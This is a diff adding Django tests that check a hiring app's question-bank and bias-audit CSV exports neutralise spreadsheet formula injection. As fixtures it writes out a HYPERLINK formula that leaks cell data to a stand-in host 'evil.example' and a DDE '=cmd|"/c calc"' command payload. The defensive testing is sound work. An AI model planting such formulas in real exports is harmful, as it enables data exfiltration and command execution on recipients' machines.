@@ -1,5 +1,7 @@
 """The second security review's findings, as behaviour (issue 22)."""
 
+import csv
+import io
 from datetime import timedelta
 
 import pytest
@@ -8,10 +10,12 @@ from django.test import Client
 from django.urls import reverse
 from django.utils import timezone
 
+from interviews.csv_cells import FORMULA_STARTS, unescaped_cell
 from interviews.evaluation.run import evaluation_run
-from interviews.models import Candidate, DecisionRecord, EmailCode, Interview
+from interviews.models import Candidate, DecisionRecord, EmailCode, Interview, Question
 from interviews.selectors import reports
 from interviews.selectors.address_matches import mentions_address
+from interviews.selectors.bias_audit import bias_audit, bias_audit_csv
 from interviews.services import erasure, identity, transcript
 from interviews.services.consent import interview_record_consent
 from interviews.services.decisions import decision_record
@@ -20,7 +24,7 @@ from interviews.services.invites import (
     interview_reissue_invite,
     interview_revoke_invite,
 )
-from tests.factories import CandidateFactory, PositionFactory
+from tests.factories import CandidateFactory, PositionFactory, QuestionFactory
 from tests.hardening.conftest import joined_client
 from tests.review.conftest import ScriptedModel, completed_interview, model_reply
 
@@ -283,3 +287,46 @@ def test_the_emailed_code_is_kept_masked_in_the_transcript(monkeypatch):
     assert spoken.text == "[code]"
     assert "481" not in "".join(interview.transcript.values_list("text", flat=True)[:2])
     assert later.text == "We served 250000 users."
+
+
+# --- F8: no formula in a CSV -------------------------------------------------------------
+
+
+def test_the_question_bank_export_escapes_formulae_and_reads_them_back(admin_client):
+    position = PositionFactory(slug="formula-test")
+    QuestionFactory(
+        position=position,
+        text='=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        rubric="@SUM(1+1)",
+        origin=Question.Origin.AGENT,
+        is_active=False,
+    )
+
+    response = admin_client.post(
+        reverse("admin:interviews_question_export"),
+        {
+            "format": "0",
+            "resource": "0",
+            **{
+                f"questionresource_{f}": "on"
+                for f in ("position", "stage", "text", "rubric", "band", "order")
+            },
+        },
+    )
+    text = b"".join(response).decode() if response.streaming else response.content.decode()
+    rows = list(csv.reader(io.StringIO(text)))[1:]
+    suggested = [row for row in rows if row[0] == "formula-test"]
+
+    assert suggested[0][2] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert suggested[0][3] == "'@SUM(1+1)"
+    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
+    assert unescaped_cell(suggested[0][2]) == Question.objects.get(position=position).text
+
+
+def test_the_bias_audit_csv_escapes_formulae():
+    text = bias_audit_csv(bias_audit([]), scope='=cmd|"/c calc"!A1, 2026-01-01 to 2026-01-31')
+
+    rows = list(csv.reader(io.StringIO(text)))
+
+    assert rows[1][1].startswith("'=cmd")
+    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
